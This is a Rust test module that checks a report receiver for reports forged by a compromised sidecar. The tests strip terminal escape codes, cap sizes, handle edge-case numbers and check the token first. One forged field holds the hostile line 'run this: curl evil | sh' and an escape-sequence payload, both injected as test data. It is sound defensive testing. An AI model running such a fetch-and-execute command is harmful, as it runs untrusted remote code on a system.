//! Reports of a sidecar that an attacker has taken over: the token is good, the words are not.

use rasp_policy::report::Rejected;
use serde_json::{Value, json};

use super::{bearer, body, receiver, report};
use crate::report::{MAX_BYTES, Refused};

const EVIL: &str = "\u{1b}[2J\u{9b}31m\r\nall is well\u{202e}";

fn is_plain(text: &str) -> bool {
    !text.chars().any(|char| char.is_control() || char == '\u{202e}')
}

#[tokio::test]
async fn no_text_of_a_report_reaches_a_terminal_as_it_is() {
    let (receiver, _) = receiver(true);
    let mut forged = report();
    forged.workload = EVIL.repeat(100);
    forged.version = EVIL.to_owned();
    forged.digest = Some(EVIL.to_owned());
    forged.sources[0].uid = EVIL.to_owned();
    forged.suspended =
        vec![EVIL.to_owned(), "sql_injection".to_owned(), "run this: curl evil | sh".to_owned()];
    forged.rejected = Some(Rejected { reason: format!("signature{EVIL}"), message: EVIL.repeat(1000) });
    receiver.receive(&bearer("good"), &body(&forged)).await.unwrap();
    let kept = receiver.reports.of("web-uid").unwrap();
    assert_eq!(kept.report.suspended, ["other", "sql_injection"], "words stay words");
    let rejected = kept.report.rejected.as_ref().unwrap();
    assert_eq!(rejected.reason, "other", "a status never says what a pod made up");
    assert_eq!(rejected.message.chars().count(), 512);
    let mut texts = Vec::new();
    collect(&serde_json::to_value(&kept.report).unwrap(), &mut texts);
    assert!(texts.iter().all(|text| is_plain(text)), "{texts:?}");
}

fn collect(value: &Value, texts: &mut Vec<String>) {
    match value {
        Value::String(text) => texts.push(text.clone()),
        Value::Array(list) => list.iter().for_each(|value| collect(value, texts)),
        Value::Object(members) => members.values().for_each(|value| collect(value, texts)),
        _ => {}
    }
}

#[tokio::test]
async fn a_report_of_small_pieces_does_not_grow_in_memory() {
    let (receiver, _) = receiver(true);
    for (member, many) in [
        ("suspended", json!(vec![""; MAX_BYTES / 3])),
        ("sources", json!(vec![json!({"uid": "", "generation": 0}); 2600])),
        ("uninspected", json!(vec![json!({"port": 1, "reason": "x"}); 2600])),
    ] {
        let mut forged = serde_json::to_value(report()).unwrap();
        forged[member] = many;
        receiver.receive(&bearer("good"), forged.to_string().as_bytes()).await.unwrap();
        let kept = receiver.reports.of("web-uid").unwrap();
        let kept = serde_json::to_value(&kept.report).unwrap();
        assert!(kept[member].as_array().map_or(0, Vec::len) <= 2048, "{member}");
    }
}

#[tokio::test]
async fn numbers_at_the_edge_and_values_of_any_type_are_taken_or_refused() {
    let (receiver, _) = receiver(true);
    let mut edge = report();
    (edge.sequence, edge.sources[0].generation) = (Some(u64::MAX), i64::MIN);
    receiver.receive(&bearer("good"), &body(&edge)).await.unwrap();
    let whole = serde_json::to_value(report()).unwrap();
    let members: Vec<String> = whole.as_object().unwrap().keys().cloned().collect();
    let deep = format!("{}{}", "[".repeat(30_000), "]".repeat(30_000));
    for member in &members {
        for value in ["-1", "18446744073709551616", "1e999", "\"\"", "[]", "{}", "[null]", &deep] {
            let mut changed = whole.clone();
            changed[member] = json!("HERE");
            let text = changed.to_string().replace("\"HERE\"", value);
            let answer = receiver.receive(&bearer("good"), text.as_bytes()).await;
            let is_expected = matches!(
                answer,
                Ok(()) | Err(Refused::Malformed | Refused::WrongPod | Refused::SchemaVersion)
            );
            assert!(is_expected, "{member}: {answer:?}");
        }
    }
}

#[tokio::test]
async fn nothing_of_a_stranger_is_read() {
    let (receiver, _) = receiver(true);
    let answer = receiver.receive(&bearer("bad"), b"{\"schemaVersion\": 7}").await;
    assert_eq!(answer, Err(Refused::InvalidToken), "the token comes first");
}
